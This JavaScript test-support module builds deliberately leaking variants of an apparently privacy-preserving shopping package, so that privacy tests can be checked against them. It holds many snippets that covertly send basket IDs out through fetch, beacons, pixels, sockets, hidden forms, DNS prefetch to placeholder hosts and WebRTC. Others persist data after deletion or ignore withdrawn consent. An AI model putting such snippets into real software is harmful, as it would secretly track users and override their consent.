/**
 * Builds of the package that break its promises on purpose, each in one way.
 *
 * In: the built package. Out: files to serve in place of its entry.
 * What must stay true: apart from its leak a leaking build is the package as it is, so a privacy
 * test that passes with it tests nothing.
 */
import { readFileSync } from 'node:fs'
import { distFile } from '../package/tent.mjs'

/** What is done with each basket, behind the shopper's back: on every wire a page has. */
const SENT_WITH_EACH_BASKET = {
  'a fetch': "fetch('/collect?' + ids).catch(() => {})",
  'a beacon': "navigator.sendBeacon('/collect', ids)",
  'a beacon on leaving the page':
    "addEventListener('pagehide', () => navigator.sendBeacon('/collect', ids))",
  'an invisible picture': "new Image().src = '/pixel.png?' + ids",
  'a prefetched page':
    "document.head.append(Object.assign(document.createElement('link'), { rel: ['prefetch', 'preload'].find(rel => document.createElement('link').relList.supports(rel)), as: 'image', href: '/product?' + ids }))",
  'a web socket': "try { new WebSocket('ws://' + location.host + '/' + ids) } catch {}",
  'a message in a web socket':
    "const socket = new WebSocket('ws://' + location.host + '/socket'); socket.onopen = () => socket.send(ids)",
  'an event source': "new EventSource('/events?' + ids)",
  'a request of old':
    "const old = new XMLHttpRequest(); old.open('GET', '/old?' + ids); old.send()",
  'a header':
    "fetch('/collect', { headers: { 'x-trace': btoa(ids).slice(0, 4000) } }).catch(() => {})",
  'a packed body':
    "new Response(new Blob([ids]).stream().pipeThrough(new CompressionStream('gzip'))).blob().then(body => fetch('/collect', { method: 'POST', body }))",
  'a cookie for the next request':
    "document.cookie = 'last=' + ids.slice(0, 3000); fetch('/next').catch(() => {})",
  'an address the next request refers to':
    "history.replaceState(null, '', '/?' + ids.slice(0, 1000)); fetch('/next').catch(() => {})",
  'a form': `
    const frame = Object.assign(document.createElement('iframe'), { name: 'away', hidden: true })
    const form = Object.assign(document.createElement('form'), { action: '/form', method: 'post', target: 'away', hidden: true })
    form.append(Object.assign(document.createElement('input'), { name: 'basket', value: ids }))
    document.body.append(frame, form)
    form.submit()`,
  'a word on the console, where a shop’s own reporter listens':
    "console.warn('no companions for ' + ids)",
  'an error nobody catches': "setTimeout(() => { throw new Error('unknown product ' + ids) })",
}

/** Those that need another host: a room sees them, a browser's own setting may not. */
const SENT_ELSEWHERE = {
  // WebKit drops the first name it is to look up ahead, while it finds out about proxies: so one after the other.
  'a name that is looked up': `
    this.basket.forEach(({ id }, at) => setTimeout(() => {
      document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: '//' + id + '.example' }))
    }, at * 300))`,
  'a picture elsewhere': "new Image().src = 'http://' + this.basket[0].id + '.example/pixel.png'",
  'a picture elsewhere, encrypted':
    "new Image().src = 'https://' + this.basket[0].id + '.example/pixel.png'",
}

const SENT_AGAINST_POLICY = {
  'a picture the policy refuses, and reports':
    "new Image().src = 'http://elsewhere.example/' + ids",
}

/** Says that somebody is here, without a word: only the kernel's count tells. An engine without calls can't. */
const SENT_WITHOUT_WORDS = {
  'a call by WebRTC': `
    if (globalThis.RTCPeerConnection) {
      const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:198.51.100.7:3478' }] })
      call.createDataChannel('basket')
      call.createOffer().then(offer => call.setLocalDescription(offer))
    } else fetch('/no-calls').catch(() => {})`,
}

const STORED_WITH_EACH_BASKET = {
  'an entry that outlives the visit': "localStorage.setItem('alongside:basket', ids)",
  'an entry for this tab': "sessionStorage.setItem('visited', ids)",
  'a cookie': "document.cookie = 'basket=' + ids.slice(0, 3000)",
  'a database': "indexedDB.open('alongside')",
  'a cache': "caches.open('alongside')",
  "the window's name": 'window.name = ids',
  'an entry in the history': "history.replaceState({ ids }, '')",
  'a private file':
    "navigator.storage?.getDirectory?.().then(all => all.getFileHandle('basket', { create: true })) ?? localStorage.setItem('basket', ids)",
}

const AFTER_FORGETTING = {
  'an entry that survives': "localStorage.setItem('alongside:since', '1')",
  'a cookie that survives': "document.cookie = 'returning=1'",
}

const WITH_EACH_CONSENT = {
  'a copy that withdrawing leaves':
    "if (given[0] === 'none') localStorage.setItem('alongside:memory', 'a copy')",
  'a deaf ear for the browser’s signal':
    "if (given[0] !== 'none') honest.call(this, given[0], 'shopper')",
}

export const sendingBuilds = patched('setBasket', SENT_WITH_EACH_BASKET)
export const sendingElsewhere = patched('setBasket', SENT_ELSEWHERE)
export const [reportedBuild] = patched('setBasket', SENT_AGAINST_POLICY)
export const callingBuilds = patched('setBasket', SENT_WITHOUT_WORDS)
export const storingBuilds = patched('setBasket', STORED_WITH_EACH_BASKET)
export const rememberingBuilds = patched('forget', AFTER_FORGETTING)
export const [keepingBuild, deafBuild] = patched('setConsent', WITH_EACH_CONSENT)
/** Stores what its export does not show. */
export const [secretiveBuild] = patched('record', {
  'an entry its export is silent of': "localStorage.setItem('alongside:more', ids)",
})
/** Writes without expecting a refusal. */
export const [carelessBuild] = patched('record', {
  'a write that may throw': "localStorage.setItem('alongside:frequency', 'normal')",
})

/** @returns {{ leak: string, files: Record<string, string> }[]} */
function patched(method, leaks) {
  return Object.entries(leaks).map(([leak, code]) => ({
    leak,
    files: {
      '/dist/honest.js': readFileSync(distFile('index.js'), 'utf8'),
      '/dist/index.js': `
        import { Visit } from './honest.js'
        export * from './honest.js'
        const honest = Visit.prototype.${method}
        Visit.prototype.${method} = function (...given) {
          honest.apply(this, given)
          const ids = this.basket.map(line => line.id).join()
          ${code}
        }`,
    },
  }))
}
